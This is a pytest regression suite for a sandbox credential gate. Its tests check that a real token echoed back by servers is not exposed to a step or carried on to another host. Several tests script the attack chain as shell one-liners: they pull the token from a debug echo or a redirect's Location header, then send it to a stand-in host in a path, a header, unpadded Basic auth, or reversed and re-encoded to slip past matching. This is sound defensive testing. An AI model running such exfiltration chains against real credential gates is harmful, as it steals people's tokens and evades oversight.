"""Issue 13 (red team 13's echo chain): a server may hand the real value back to the step
(responses are not scrubbed: an API that prints the request it got, a debug endpoint). The
step then sends it on to another host, in the path, a header or Basic credentials without
padding. The gate knows every real value it has read: seen on a request the credential does
not cover, it is denied before it leaves and the step is marked credential-misuse, and no
record holds it (the request's record names the credential instead). The oracle is the
canary: in the second server's record, and anywhere envgit keeps records. Runs as root: the
gate's judgement does not depend on the step's uid.

Below, the echoes found by the red team (rounds 13 and 13b) in ordinary, honest servers of the
credential's own host: a header or query the gate swapped the real token into, echoed back (a
redirect's Location, request-id middleware, CORS), re-encoded by the server's framework, or
followed by the client to another host."""

import json
import shutil
import subprocess
from urllib.parse import parse_qs, quote

import pytest

from conftest import CANARY
from gatekit import hostport, netproject, servers

pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")


def _echo(method, path, headers, body):
    """/echo prints the Authorization header it received (a debug endpoint)."""
    if path.endswith("/echo"):
        return 200, {"Content-Type": "text/plain"}, headers.get("authorization", "").encode() + b"\n"
    return 200, {"Content-Type": "text/plain"}, b"ok\n"


@pytest.mark.parametrize("send", [
    "curl -s -o /dev/null \"{url}/files/$t/x\"",                       # in the path
    "curl -s -o /dev/null -H \"X-Note: $t\" {url}/",                   # in some header
    "curl -s -o /dev/null -H \"Authorization: Basic $(printf 'me:%s' \"$t\" | base64 -w0 | tr -d =)\" {url}/",
])
def test_an_echoed_real_value_sent_elsewhere_is_denied_marked_and_unrecorded(attacker, send):
    with servers(_echo) as (git, stub):
        attacker.env["MY_TOKEN"] = CANARY
        api = hostport(stub, "gql.example.test")     # one server, two names (gatekit.STUB_NAMES)
        netproject(attacker, stub, stub,
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
        url = f"https://{hostport(stub, 'stub.example.test')}"
        attacker.run(f"t=$(curl -s -H \"Authorization: Bearer $MY_TOKEN\" https://{api}/echo | "
                     "sed 's/^Bearer //' | tr -d '\\r\\n'); " + send.format(url=url))
        assert [q for q in stub.requests if q["path"] == "/echo" and
                q["headers"].get("authorization") == f"Bearer {CANARY}"], "the echo was not reached"
        other = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")]
        assert not other, f"the other host received {other}"
        s = json.loads(attacker.envgit("log", "--json", check=True).stdout)[-1]
        assert "credential-misuse" in s["marks"], (s["marks"], s["requests"])
        outs = [attacker.envgit(*a).stdout for a in (("log", "--json"), ("show", "--json"), ("show",))]
        assert not [o for o in outs if CANARY in o]
        r = subprocess.run(["grep", "-rlaF", CANARY, str(attacker.root / ".envgit")],
                           capture_output=True, text=True)
        assert r.stdout == "", r.stdout


# --- echoes of ordinary servers: headers, a redirect's Location ---------------------------

def _ordinary(method, path, headers, body):
    """What everyday web servers do: a path without its trailing slash is redirected to the
    slashed one with the query kept; X-Request-Id and Origin are echoed."""
    base, _, query = path.partition("?")
    out = {"Content-Type": "text/plain"}
    if "x-request-id" in headers:
        out["X-Request-Id"] = headers["x-request-id"]
    if "origin" in headers:
        out["Access-Control-Allow-Origin"] = headers["origin"]
    if not base.endswith("/"):
        out["Location"] = f"https://{headers.get('host', '')}{base}/" + (f"?{query}" if query else "")
        return 301, out, b"moved\n"
    return 200, out, b"ok\n"


def _setup(attacker, stub):
    attacker.env["MY_TOKEN"] = CANARY                # the person's token, outside only
    api = hostport(stub, "api.github.com")
    netproject(attacker, stub, stub,
               f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
    return f"https://{api}"


@pytest.mark.parametrize("how", [
    # a token-named query parameter, kept by the redirect's Location
    "curl -s -D - -o /dev/null \"{api}/repos/o/r?access_token=$MY_TOKEN\"",
    # a header whose whole value is the placeholder, echoed by request-id middleware
    "curl -s -D - -o /dev/null -H \"X-Request-Id: $MY_TOKEN\" {api}/",
    # Origin, echoed by CORS
    "curl -s -D - -o /dev/null -H \"Origin: $MY_TOKEN\" {api}/",
])
def test_the_real_token_is_not_echoed_back_into_the_step(attacker, how):
    """The gate swaps the real token into any header whose whole value is the placeholder (not
    only auth headers: X-Request-Id, Origin, ...) and into token-named query parameters, and
    never scrubbed responses. Ordinary servers echo exactly those: a trailing-slash (or renamed
    repository) redirect keeps the query in its Location, request-id middlewares echo
    X-Request-Id, CORS echoes Origin: the step read the real token in the response headers.
    The credential's host is an ordinary, honest server here; nothing is sent anywhere else."""
    with servers(_ordinary) as (git, stub):
        api = _setup(attacker, stub)
        r = attacker.run(how.format(api=api) + "; echo done")
        assert "done" in r.stdout, r.stdout + r.stderr
        assert stub.requests, "the request never reached the credential's host"
        assert CANARY not in r.stdout + r.stderr, \
            "the real token came back into the sandbox in the credential host's answer"


def test_an_echoed_real_token_is_not_carried_to_another_host(attacker):
    """The chain: the step reads the real token from the echo, then sends it anywhere. The gate
    looks only for placeholders, never for the real values it swapped in, so the second host
    receives the real token and the step is not marked."""
    with servers(_ordinary) as (git, stub):
        api = _setup(attacker, stub)
        other = f"https://{hostport(stub, 'stub.example.test')}"
        attacker.run(f"t=$(curl -s -D - -o /dev/null \"{api}/x?access_token=$MY_TOKEN\" | "
                     "grep -i '^location:' | sed 's/.*access_token=//' | tr -d '\\r'); "
                     f"curl -s -o /dev/null \"{other}/?q=$t\"")
        got = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")
               and CANARY in q["path"]]
        assert not got, f"the real token reached stub.example.test: {got[0]['path']}"


def test_the_real_token_does_not_follow_a_redirect_to_another_host(attacker):
    """A server that moved (`return 301 https://new.example$request_uri`, the everyday nginx
    line) or hands downloads to another host redirects with the request's query kept. The gate
    swapped the real value into the token-named query parameter; the Location names another
    host with the real token in it; the client follows (curl -L, every HTTP library by default)
    and sends the real token there. The gate looked only for placeholders on requests to other
    hosts, never for the real values it had handed out, so nothing was denied or marked. The
    second server's record is the oracle."""
    moved_to = {}

    def app(method, path, headers, body):
        if headers.get("host", "").startswith("api.github.com"):   # moved: same path and query
            return 301, {"Location": moved_to["url"] + path, "Content-Type": "text/plain"}, b""
        return 200, {"Content-Type": "text/plain"}, b"ok\n"

    with servers(app) as (git, stub):
        moved_to["url"] = f"https://{hostport(stub, 'stub.example.test')}"
        attacker.env["MY_TOKEN"] = CANARY
        api = hostport(stub, "api.github.com")
        netproject(attacker, git, stub,
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
        attacker.run(f"curl -s -L -o /dev/null \"https://{api}/repos/o/r?access_token=$MY_TOKEN\"")
        assert [q for q in stub.requests if q["headers"].get("host", "").startswith("api.github.com")], \
            "the credential's host was not reached"
        elsewhere = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")
                     and CANARY in q["path"]]
        assert not elsewhere, f"the real token reached stub.example.test: {elsewhere[0]['path']}"


# --- a re-encoded real token ------------------------------------------------------------

# A real token with characters that percent-encoding changes (`/`, `+`, `=`: base64-shaped API
# keys, AWS secrets, many vendors' tokens) came back into the step in a spelling the gate did
# not look for. The gate looked for a real value plain, `quote(v, safe="")`,
# `quote_plus(v, safe="")` and JSON-escaped. Ordinary encoders spell it otherwise: Python's
# `urllib.parse.quote(v)` keeps `/` (its default `safe="/"`, what Werkzeug/Django-style redirects
# use), .NET's HttpUtility.UrlEncode writes lowercase hex (`%2f`), a form encoder writes `+` for
# a space but leaves `/` alone in paths. The credential's host here is an ordinary server that
# redirects a path without its trailing slash, keeping the query, re-encoded by its framework;
# nothing is sent anywhere else. The oracle is the canary (the real token starts with it) in
# what the step read.

REAL = CANARY + "/Ab+Cd="             # the person's token, as a base64-shaped key is


def _lower(v: str) -> str:
    return "".join(c if c.isalnum() or c in "-_.~" else f"%{ord(c):02x}" for c in v)


ENCODERS = {"python-quote": quote, "lowercase-hex": _lower}


def _redirecting(encode):
    def app(method, path, headers, body):
        base, _, query = path.partition("?")
        token = parse_qs(query).get("access_token", [""])[0]
        if not base.endswith("/"):
            loc = f"https://{headers.get('host', '')}{base}/?access_token={encode(token)}"
            return 301, {"Location": loc, "Content-Type": "text/plain"}, b"moved\n"
        return 200, {"Content-Type": "text/plain"}, b"ok\n"
    return app


@pytest.mark.parametrize("encoder", list(ENCODERS))
def test_a_re_encoded_real_token_is_not_echoed_back_into_the_step(attacker, encoder):
    with servers(_redirecting(ENCODERS[encoder])) as (git, stub):
        attacker.env["MY_TOKEN"] = REAL
        api = hostport(stub, "api.github.com")
        netproject(attacker, git, stub,
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
        r = attacker.run(f"curl -s -D - -o /dev/null \"https://{api}/repos/o/r?access_token=$MY_TOKEN\"; "
                         "echo done")
        out = r.stdout + r.stderr
        assert "done" in out, out
        got = [q for q in stub.requests if REAL in parse_qs(q["path"].partition("?")[2]).get("access_token", [])]
        assert got, f"the real token never reached the credential's host: {stub.requests}"
        assert CANARY not in out, f"the real token came back in the Location ({encoder}):\n{out}"


def test_the_re_encoded_real_token_is_carried_to_another_host(attacker):
    """The chain to a second server: the step reads the token out of the Location, and sends
    it to stub.example.test reversed (the gate looks for real values leaving only in the
    spellings it knows; the step now holds the value and may spell it any way)."""
    with servers(_redirecting(quote)) as (git, stub):
        attacker.env["MY_TOKEN"] = REAL
        api = hostport(stub, "api.github.com")
        other = hostport(stub, "stub.example.test")
        netproject(attacker, git, stub,
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
        attacker.run(
            f"t=$(curl -s -D - -o /dev/null \"https://{api}/x?access_token=$MY_TOKEN\" | "
            "grep -i '^location:' | sed 's/.*access_token=//' | tr -d '\\r' | "
            "python3 -c 'import sys, urllib.parse; print(urllib.parse.unquote(sys.stdin.read().strip())[::-1])'); "
            f"curl -s -o /dev/null -H \"X-R: $t\" https://{other}/")
        got = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")
               and REAL[::-1] in q["headers"].get("x-r", "")]
        assert not got, f"the real token reached stub.example.test: {got[0]['headers']['x-r'][::-1]}"
